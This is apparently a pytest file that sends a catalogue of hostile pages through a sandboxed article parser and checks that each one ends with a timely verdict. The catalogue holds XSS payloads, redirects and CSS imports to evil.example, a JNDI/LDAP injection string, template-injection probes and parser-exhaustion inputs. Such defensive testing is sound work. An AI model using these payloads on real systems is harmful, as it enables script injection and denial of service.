# ruff: noqa: E501 (pages and their lines are data; a property may end in a refusal)
"""Hostile pages through a real parser child: every one ends with a verdict in time, and the next page is unharmed."""

from __future__ import annotations

import os
import time
from collections.abc import Callable

import pytest

from services.enrich.adapters.sandbox import Sandbox
from shared.errors import Permanent
from shared.sandbox import Limits
from tests.support.builders import wait_until
from tests.unit.enrich.pages import BODY, TITLE, html_page, paragraphs_html, raw_page

GOOD = raw_page("\n\n".join((TITLE, *BODY)))
ARTICLE = f"<article><h1>{TITLE}</h1>{paragraphs_html()}</article>"

CATALOGUE: dict[str, tuple[str, Callable[[], str | bytes]]] = {
    "X01": ("html", lambda: html_page(ARTICLE + "<script>alert(1)</script>")),
    "X02": ("html", lambda: html_page(ARTICLE + "<img src=x onerror=alert(1)>")),
    "X03": ("html", lambda: html_page(ARTICLE + "<svg onload=alert(1)>")),
    "X04": ("html", lambda: html_page(ARTICLE + "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")),
    "X05": ("html", lambda: html_page(ARTICLE + "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>")),
    "X06": ("html", lambda: html_page(ARTICLE + "<a href='javascript&#58;alert(1)'>x</a>")),
    "X07": ("html", lambda: html_page(ARTICLE + "<a href='data:text/html,<script>alert(1)</script>'>x</a>")),
    "X08": ("html", lambda: html_page(ARTICLE, "<base href='https://evil.example/'>")),
    "X09": ("html", lambda: html_page(ARTICLE, "<meta http-equiv=refresh content='0;url=https://evil.example'>")),
    "X10": ("html", lambda: html_page(ARTICLE, "<style>@import 'https://evil.example'</style>")),
    "X11": ("html", lambda: html_page(ARTICLE + "<iframe srcdoc='<script>alert(1)</script>'></iframe>")),
    "X12": ("html", lambda: html_page(ARTICLE + "<form action=https://evil.example><input></form>")),
    "X13": ("html", lambda: html_page(ARTICLE + "<!-- unclosed")),
    "X14": ("html", lambda: html_page("<div>" * 100_000 + "text")),
    "X15": ("html", lambda: html_page("<p>some text here</p>" * 200_000)),
    "X16": ("html", lambda: html_page("<p " + " ".join(f"a{i}=1" for i in range(200_000)) + ">text</p>")),
    "X17": ("html", lambda: "<html>" + "<" * 5_000_000),
    "X18": ("text", lambda: "w" * 3_000_000),
    "X19": ("html", lambda: html_page("<b>" * 1_000_000 + "x")),
    "X20": ("html", lambda: html_page("<table><tr><td>" * 300 + "x" + "</td></tr></table>" * 300)),
    "X21": ("html", lambda: html_page(ARTICLE + "<p>Größe zählt.</p>").encode("cp1252")),
    "X22": ("html", lambda: html_page(ARTICLE, "<meta charset=utf-8><meta charset=latin-1>")),
    "X23": ("html", lambda: html_page(ARTICLE.replace("<p>", "<p\x00>"))),
    "X24": ("html", lambda: b"\x89PNG\r\n\x1a\n" + os.urandom(100_000)),
    "X25": ("text", lambda: b"%PDF-1.7\n" + os.urandom(100_000)),
    "X26": ("text", lambda: "\r\r".join((TITLE, *BODY))),
    "X28": ("text", lambda: "\n\n".join((TITLE, "5 March 2026 " + "1" * 100 + " " * 100_000 + "!", "1:" * 100_000, *BODY))),
    "X29": ("html", lambda: html_page(ARTICLE + "<p>&#x110000; &#xD800; &#0; &notanentity;</p>")),
    "X30": ("text", lambda: "\n\n".join((TITLE, *BODY, "{{7*7}} ${jndi:ldap://evil.example/a} <%= 7*7 %>"))),
    "many lines": ("text", lambda: "x\n" * 1_000_000),
    "many headers": ("text", lambda: "Recommended\n\nOne\n\n" * 20_000 + TITLE),
    "many dots": ("text", lambda: TITLE + "\n\n" + "A. " * 700_000),
    "many marks": ("text", lambda: TITLE + "\n\na" + "\u0301" * 1_000_000),
    "many hashes": ("text", lambda: TITLE + "\n\nBody here it is.\n\nTags: " + "#a " * 500_000),
    "deep json": ("json", lambda: '{"text":' * 100_000),
    "json-ld bomb": ("html", lambda: html_page(ARTICLE, "<script type='application/ld+json'>" + "[" * 100_000 + "</script>")),
}  # fmt: skip
MUST_PASS = {
    name for name in CATALOGUE if name[0] == "X" and int(name[1:]) in {*range(1, 14), 21, 22, 23, 26, 28, 29, 30}
}


@pytest.mark.slow
@pytest.mark.timeout(300)
async def test_every_hostile_page_ends_with_a_verdict_and_harms_no_neighbour() -> None:
    sandbox = Sandbox(1, Limits(seconds=10.0, cpu_seconds=3.0))
    await sandbox.start()
    try:
        await _judge_all(sandbox)
    finally:
        await sandbox.aclose()


async def _judge_all(sandbox: Sandbox) -> None:
    verdicts: dict[str, str] = {}
    for name, (kind, make) in CATALOGUE.items():
        page = raw_page(make(), kind, "text/html" if kind == "html" else "text/plain")
        await wait_until(lambda: sandbox.idle == 1, timeout=60)
        started = time.monotonic()
        try:
            outcome = await sandbox.run(page)
        except Permanent as error:
            verdicts[name] = error.rule
        else:
            verdicts[name] = "article"
            text = "\n".join((outcome.article.title, outcome.article.dek, *outcome.article.paragraphs))
            assert "\x00" not in text
            if kind == "html":
                assert "alert(1)" not in text
                assert "<" not in text.replace("<" * 50, "")[:1] or name == "X17"
        took = time.monotonic() - started
        print(f"{name}: {verdicts[name]} in {took:.2f} s")
        assert took < 12, name
    good = await sandbox.run(GOOD)
    assert good.article.paragraphs == BODY
    assert {verdicts[name] for name in MUST_PASS} == {"article"}, verdicts
    known = {"article", "no-body", "not-text", "not-html", "bad-json", "sandbox-time", "sandbox-memory"}
    assert set(verdicts.values()) <= known, verdicts
